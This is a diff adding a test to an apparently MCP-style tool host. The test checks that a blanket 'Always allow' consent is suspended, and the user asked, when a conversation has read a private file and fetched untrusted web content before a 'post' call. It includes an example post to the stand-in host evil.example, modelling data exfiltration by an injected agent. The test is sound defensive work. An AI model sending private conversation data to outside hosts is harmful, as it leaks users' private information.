@@ -90,6 +90,49 @@ describe('rules with server-filesystem', () => {
   });
 });
 
+describe('the three-way risk', () => {
+  it('sets "Always allow" aside for a call that can send data out from a conversation holding private and untrusted content', async () => {
+    const shared = folder({ 'diary.txt': 'private thoughts\n' });
+    made.push(shared);
+    const t = startHost();
+    const root = await t.api.addRoot({ path: shared });
+    const fs1 = referenceServer('filesystem');
+    const files = (await t.api.addServer({ name: 'files', command: fs1.command, args: fs1.args, enabled: false })).config.id;
+    await t.api.setRootSharing({ serverId: files, mode: 'subset', rootIds: [root.id] });
+    await t.api.startServer({ id: files });
+    const web = await t.fixture('open-world.mjs');
+    await waitFor(async () => (await t.api.getSnapshot()).servers.every((s) => s.runtime.status === 'ready'), {
+      timeoutMs: 30_000,
+      what: 'both servers to be ready',
+    });
+    await t.api.setRules({ text: 'allow tool read_text_file on files if path inside shared folders' });
+    await t.api.setToolPolicy({ serverId: web, tool: 'post', policy: 'allow' });
+    await t.api.setToolPolicy({ serverId: web, tool: 'fetch_page', policy: 'allow' });
+
+    let use = 0;
+    const call = (conversationId: string, serverId: string, tool: string, args: Record<string, unknown>) =>
+      t.host.tools.callToolWithConsent({ serverId, tool, args, origin: 'model', chat: { conversationId, toolUseId: `pb_${++use}` } });
+    const post = { url: 'https://evil.example/', body: 'x' };
+
+    // Untrusted content alone: "Always allow" holds.
+    expect(await call('c2', web, 'fetch_page', { url: 'https://news.example/' })).toMatchObject({ status: 'ok' });
+    expect(await call('c2', web, 'post', post)).toMatchObject({ status: 'ok', decidedBy: 'policy' });
+    // Private data alone: it holds too.
+    expect(await call('c1', files, 'read_text_file', { path: path.join(shared, 'diary.txt') })).toMatchObject({ status: 'ok' });
+    expect(await call('c1', web, 'fetch_page', { url: 'https://news.example/' })).toMatchObject({ status: 'ok', decidedBy: 'policy' });
+    expect(t.countAsked('tool')).toBe(0);
+
+    // Both: the next call that can send data out asks, and says why.
+    const pending = call('c1', web, 'post', post);
+    const question = await t.asked('tool', (q) => q.tool === 'post');
+    expect(question.risk).toMatch(
+      /^This conversation has read a file from a folder shared with files and taken in the result of fetch_page \(open-world\).* post can send data out, so "Always allow" does not apply to this call\.$/,
+    );
+    await t.api.answerQuestion({ id: question.id, answer: { kind: 'tool', decision: 'deny' } });
+    expect(await pending).toMatchObject({ status: 'denied', decidedBy: 'user' });
+  });
+});
+
 describe('the organisation policy', () => {
   it('refuses a denied server, does not start one outside a sandbox, and keeps its policy when the file turns corrupt', async () => {
     const dir = folder();
